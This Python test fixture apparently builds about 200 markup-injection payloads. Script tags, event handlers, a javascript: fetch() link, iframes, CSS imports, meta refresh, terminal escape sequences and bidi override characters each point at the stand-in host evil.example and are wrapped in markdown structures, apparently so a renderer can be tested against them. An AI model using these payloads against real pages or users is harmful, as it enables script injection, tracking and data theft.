"""Two hundred and more texts that would load, link, hide or run something where they were shown as markup (SECURITY 12)."""

from __future__ import annotations

EVIL = "http://evil.example"
VECTORS: tuple[str, ...] = (
    f"![x]({EVIL}/a.png)",
    f"[click]({EVIL}/b)",
    "[click](javascript:fetch('http://evil.example/c'))",
    f"<img src={EVIL}/d.png onerror=alert(1)>",
    f"<script src={EVIL}/e.js></script>",
    "<svg onload=\"fetch('http://evil.example/f')\">",
    f"<iframe src={EVIL}/g></iframe>",
    f"<{EVIL}/h>",
    f"<a href='{EVIL}/i'>x</a>",
    f"<link rel=stylesheet href={EVIL}/j.css>",
    f"<style>@import '{EVIL}/k.css'</style>",
    f"<div style='background:url({EVIL}/l)'>x</div>",
    f"<video poster={EVIL}/m.png src={EVIL}/n></video>",
    f"<form action={EVIL}/o><input name=x></form>",
    f"<object data={EVIL}/p></object><embed src={EVIL}/q>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/r'>",
    f"$\\href{{{EVIL}/s}}{{x}}$ :material/warning: :red[x] :streamlit:",
    f"\x1b]8;;{EVIL}/t\x07x\x1b]8;;\x07 \u202eevil\u2066 \x9b31m",
    f"data:text/html,<img src={EVIL}/u> www.evil.example/v",
    f"<base href={EVIL}><img srcset='{EVIL}/w 2x' loading=eager>",
)
WRAPPERS: tuple[str, ...] = (
    "{}",
    "- {}",
    "# {}",
    "> {}",
    "| {} | b |\n| - | - |\n| {} | 2 |",
    "**{}** and *{}*",
    "1. one\n   - {}",
    f"[![{{}}]({EVIL}/z.png)]({EVIL}/y)",
    "&lt;b&gt; {} &#60;img src=x&#62;",
    "text\n{}\nmore [x][1]\n\n[1]: http://evil.example/reference '{}'",
)
PAYLOADS: tuple[str, ...] = tuple(wrapper.replace("{}", vector) for wrapper in WRAPPERS for vector in VECTORS)
